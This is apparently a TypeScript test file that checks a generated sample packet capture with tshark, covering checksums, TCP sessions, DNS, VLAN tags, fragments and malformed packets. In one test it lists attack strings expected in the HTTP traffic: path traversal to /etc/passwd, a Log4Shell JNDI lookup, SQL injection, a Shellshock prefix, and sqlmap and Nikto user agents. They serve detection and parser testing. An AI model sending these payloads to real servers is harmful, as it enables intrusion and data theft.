/**
 * pcaps/quell-sample.pcap: regenerating it gives identical bytes (it is committed), our reader
 * reads it fully, and tshark (the oracle) sees what the generator promises: valid IP/TCP/UDP/ICMP
 * checksums everywhere except the one deliberately bad packet, consistent TCP sessions (no
 * retransmission/lost-segment/out-of-order analysis flags), the benign and malicious HTTP
 * requests, the DNS names and types, VLAN and QinQ tags, the IPv4 fragments, ICMP echo, and the
 * malformed packets it reports as malformed.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'fs';
import * as path from 'path';
import { spawnSync } from 'child_process';
import { makeSample, SAMPLE_START } from '../../pcaps/make-sample';
import { readAll } from './helpers';
import { ROOT } from '../helpers/paths';

const SAMPLE = path.join(ROOT, 'pcaps', 'quell-sample.pcap');

function tsharkFields(fields: string[], extra: string[] = []): string[][] {
  const args = ['-r', SAMPLE, '-T', 'fields', ...extra];
  for (const f of fields) args.push('-e', f);
  const r = spawnSync('tshark', args, { encoding: 'utf8', timeout: 60_000 });
  assert.equal(r.status, 0, r.stderr);
  return r.stdout.split('\n').filter((l) => l !== '').map((l) => l.split('\t'));
}

test('regenerating the sample capture yields the committed bytes', () => {
  const { pcap, sections } = makeSample();
  const committed = fs.readFileSync(SAMPLE);
  assert.equal(Buffer.compare(Buffer.from(pcap), committed), 0, 'run: node dist/pcaps/make-sample.js');
  assert.ok(sections.length >= 25);
  // And a second run in the same process is identical too (no hidden state).
  assert.equal(Buffer.compare(Buffer.from(makeSample().pcap), committed), 0);
});

test('our reader reads the sample fully, timestamps start 2024-01-02T03:04:05Z', async () => {
  const res = await readAll(SAMPLE);
  assert.equal(res.error, null);
  assert.equal(res.format, 'pcap');
  assert.equal(res.packets.length, makeSample().sections.at(-1)!.last);
  assert.equal(res.packets[0].sec, SAMPLE_START);
  assert.equal(new Date(SAMPLE_START * 1000).toISOString(), '2024-01-02T03:04:05.000Z');
  for (let i = 1; i < res.packets.length; i++) {
    const a = res.packets[i - 1], b = res.packets[i];
    assert.ok(b.sec * 1e9 + b.nsec > a.sec * 1e9 + a.nsec, `timestamps increase at ${i + 1}`);
  }
});

test('tshark: checksums valid except the deliberately bad one; TCP sessions consistent', () => {
  const rows = tsharkFields(['frame.number', 'ip.checksum.status', 'tcp.checksum.status', 'udp.checksum.status', 'icmp.checksum.status', 'icmpv6.checksum.status'],
    ['-o', 'ip.check_checksum:TRUE', '-o', 'tcp.check_checksum:TRUE', '-o', 'udp.check_checksum:TRUE']);
  const bad = rows.filter((r) => r.slice(1).some((v) => v !== '' && v.split(',').some((x) => x === '0'))).map((r) => Number(r[0]));
  const { sections } = makeSample();
  const badSection = sections.find((s) => s.name.includes('bad header checksum'))!;
  assert.deepEqual(bad, [badSection.first]);
  const verified = rows.filter((r) => r[2] === '1' || r[3] === '1').length;
  assert.ok(verified > 130, `TCP/UDP checksums verified: ${verified}`);
  const flagged = tsharkFields(['frame.number'], ['-Y', 'tcp.analysis.retransmission || tcp.analysis.lost_segment || tcp.analysis.ack_lost_segment || tcp.analysis.out_of_order || tcp.analysis.duplicate_ack || tcp.analysis.zero_window']);
  assert.deepEqual(flagged, []);
});

test('tshark: the HTTP requests, attacks, DNS, VLAN, fragments, ICMP and malformed packets are there', () => {
  const uris = tsharkFields(['http.request.method', 'http.request.uri', 'http.user_agent', 'http.referer'], ['-Y', 'http.request']);
  const flat = uris.map((r) => r.join(' ')).join('\n');
  for (const needle of ['GET /index.html', 'POST /api/comments', 'GET /static/site.css', 'GET /static/app.js', 'GET /api/events',
    'GET /../../etc/passwd', '${jndi:ldap://x.example/a}', "id=1'%20OR%20'1'='1", '() { :; };', 'sqlmap/1.7', 'Nikto', 'POST /login.php']) {
    assert.ok(flat.includes(needle), `missing ${needle} in\n${flat}`);
  }
  const chunked = tsharkFields(['http.transfer_encoding'], ['-Y', 'http.transfer_encoding']);
  assert.deepEqual(chunked.map((r) => r[0]), ['chunked']);
  const dns = tsharkFields(['dns.qry.name', 'dns.qry.type', 'dns.flags.response', 'tcp.port'], ['-Y', 'dns']);
  const types = new Set(dns.map((r) => r[1]));
  for (const ty of ['1', '28', '15', '16']) assert.ok(types.has(ty), `DNS type ${ty}`);
  assert.ok(dns.some((r) => r[0] === 'alias.example.com'));
  assert.ok(dns.some((r) => /^[a-z2-7]{60}\.t\.example\.test$/.test(r[0])), 'tunnelling-like name');
  assert.ok(dns.filter((r) => r[3] !== '').length >= 2, 'DNS over TCP');
  const cname = tsharkFields(['dns.cname'], ['-Y', 'dns.cname']);
  assert.deepEqual(cname.map((r) => r[0]), ['www.example.com']);
  assert.deepEqual(tsharkFields(['vlan.id'], ['-Y', 'vlan && !ieee8021ad']).map((r) => r[0]), ['100', '100']);
  assert.deepEqual(tsharkFields(['ieee8021ad.id', 'vlan.id'], ['-Y', 'ieee8021ad']), [['200', '100']]);
  assert.equal(tsharkFields(['frame.number'], ['-Y', 'ip.flags.mf == 1']).length, 2);
  assert.equal(tsharkFields(['frame.number'], ['-Y', 'ip.frag_offset > 0']).length, 2);
  assert.deepEqual(tsharkFields(['icmp.type'], ['-Y', 'icmp']).map((r) => r[0]), ['8', '8', '0']);
  assert.deepEqual(tsharkFields(['icmpv6.type'], ['-Y', 'icmpv6']).map((r) => r[0]), ['128']);
  assert.ok(tsharkFields(['frame.number'], ['-Y', 'ipv6 && tcp']).length >= 10, 'IPv6 TCP session');
  const malformed = tsharkFields(['frame.number'], ['-Y', '_ws.malformed || ip.hdr_len < 20 || tcp.hdr_len < 20 || _ws.expert.severity == "error"']);
  assert.ok(malformed.length >= 4, `malformed packets flagged by tshark: ${malformed.length}`);
  const srcs = new Set(tsharkFields(['ip.src', 'ipv6.src']).map((r) => r.join('')).filter((s) => s !== ''));
  for (const s of srcs) assert.match(s, /^(192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|2001:db8:)/, `documentation address ${s}`);
});
